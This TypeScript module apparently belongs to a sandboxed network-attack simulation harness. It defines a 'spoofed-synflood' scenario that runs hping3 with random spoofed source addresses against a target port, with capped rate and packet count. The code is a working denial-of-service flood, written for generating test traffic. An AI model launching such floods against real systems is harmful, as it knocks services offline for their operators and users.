// The spoofed SYN flood: hping3 --rand-source, so every SYN carries a random source address, to one
// port of the target, bounded in rate and count like the single-source flood (synflood.ts). The
// victim's SYN-ACKs go to addresses the sandbox has no route to, so nothing leaves it.
import { intOption, type Scenario } from './scenario.js';
import { hpingArgs, MAX_FLOOD_COUNT, MAX_FLOOD_RATE, parseHpingSent, splitFlood } from './synflood.js';

export const spoofedFlood: Scenario = {
  name: 'spoofed-synflood',
  description: 'hping3 SYN flood from random spoofed source addresses (--rand-source), bounded in rate and count',
  defaultTargetRole: 'web',
  tools: [['hping3', 'hping3']],
  async run(env, o) {
    const rate = intOption(o['rate'], '--rate', 2_000, 1, MAX_FLOOD_RATE);
    const port = intOption(o['port'], '--port', 80, 1, 65535);
    const count = intOption(
      o['count'],
      '--count',
      Math.max(1, Math.round((rate * env.durationMs) / 1000)),
      1,
      MAX_FLOOD_COUNT,
    );
    const runs = await Promise.all(
      splitFlood(rate, count).map((w) =>
        env.runner
          .run(env.src, 'hping3', ['--rand-source', ...hpingArgs(env.dst.ip, port, w.rate, w.count)], {
            okCodes: [0, 1],
            timeoutMs: Math.ceil((w.count / w.rate) * 1000) * 5 + 30_000,
          })
          .then((r) => parseHpingSent(r.stdout + r.stderr) ?? w.count),
      ),
    );
    return { tool: 'hping3', spoofed: true, port, rate, count, sent: runs.reduce((a, b) => a + b, 0) };
  },
};
